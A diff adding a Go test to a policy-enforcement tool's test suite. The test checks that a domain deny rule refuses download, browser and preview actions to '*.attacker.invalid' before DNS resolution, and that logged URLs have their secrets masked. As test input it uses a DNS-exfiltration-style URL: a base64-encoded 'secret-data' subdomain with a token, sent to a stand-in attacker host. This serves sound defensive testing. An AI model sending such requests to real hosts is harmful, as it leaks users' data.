@@ -184,3 +184,60 @@ func TestBinaryNetActions(t *testing.T) {
 		t.Errorf("decision log (%v) holds a URL secret or no masked URL:\n%s", err, b)
 	}
 }
+
+// TestBinaryDomainRuleDecidesBeforeDNS: through the real binary, a URL to
+// a host a team's policy denies by name is refused by that rule
+// (corp.domain) for each URL action, not by a failed look-up: the name is
+// never resolved before the policy decided on it, so a domain deny list
+// stops the DNS query itself. Each refusal is logged with its URL, masked;
+// a name the policy allows that does not resolve is the host's refusal
+// (host.facts), logged with its URL too.
+func TestBinaryDomainRuleDecidesBeforeDNS(t *testing.T) {
+	pol := t.TempDir()
+	copyTestTree(t, filepath.Join("..", "..", "rego"), pol, func(p string) bool { return strings.HasSuffix(p, ".rego") })
+	os.WriteFile(filepath.Join(pol, "corp.rego"), []byte(`package deskbridge.policies.corp
+
+import rego.v1
+
+deny contains {"code": "PERMISSION_DENIED", "rule": "corp.domain", "priority": 5,
+	"message": "The team's policy does not allow this domain."} if {
+	input.request.action in {"download_asset", "open_in_browser", "preview_web"}
+	endswith(input.url.ascii_host, ".attacker.invalid")
+}
+`), 0o644)
+	cfg, ws := writeConfig(t, fmt.Sprintf(`,"policy":{"dir":%q}`, pol))
+	p := start(t, []string{"--config", cfg, origin})
+	url := "https://c2VjcmV0LWRhdGE.attacker.invalid/x.png?token=CANARY-tok"
+	dest := quoteJSON(filepath.Join(ws, "x.png"))
+	for _, c := range []struct{ id, action, args string }{
+		{"d1", "download_asset", `{"url":` + quoteJSON(url) + `,"destination":` + dest + `}`},
+		{"d2", "open_in_browser", `{"url":` + quoteJSON(url) + `}`},
+		{"d3", "preview_web", `{"url":` + quoteJSON(url) + `}`},
+	} {
+		r := p.request(c.id, c.action, c.args)
+		mustCode(t, r, c.id, "PERMISSION_DENIED")
+		if r.Error.Rule != "corp.domain" {
+			t.Errorf("%s: rule %q (%s), want the team's corp.domain", c.action, r.Error.Rule, r.Error.Message)
+		}
+	}
+	mustCode(t, p.request("d4", "download_asset", `{"url":"https://allowed.invalid/y.png?sig=CANARY-sig","destination":`+dest+`}`), "d4", "EXECUTION_FAILED")
+	p.closeAndWait()
+	logPath := filepath.Join(filepath.Dir(cfg), "log", "decisions.jsonl")
+	out, code := runLogged(t, "log", "query", "--log", logPath, "--rule", "corp.domain")
+	if code != 0 || strings.Count(out, `"rule":"corp.domain"`) != 3 {
+		t.Errorf("the log holds not the three refusals of the team's rule:\n%s", out)
+	}
+	if out, code = runLogged(t, "log", "query", "--log", logPath, "--rule", "host.facts"); code != 0 || !strings.Contains(out, `"request_id":"d4"`) {
+		t.Errorf("the failed look-up is not the host's refusal:\n%s", out)
+	}
+	b, _ := os.ReadFile(logPath)
+	for _, line := range strings.Split(string(b), "\n") {
+		refusal := strings.Contains(line, `"rule":"corp.domain"`) || strings.Contains(line, `"rule":"host.facts"`)
+		if refusal && !strings.Contains(line, "attacker.invalid/x.png?token=xxxxx") && !strings.Contains(line, "allowed.invalid/y.png?sig=xxxxx") {
+			t.Errorf("a refusal is logged without its masked URL: %s", line)
+		}
+	}
+	if b, _ := os.ReadFile(logPath); bytes.Contains(b, []byte("CANARY")) {
+		t.Error("a URL secret reached the decision log")
+	}
+}
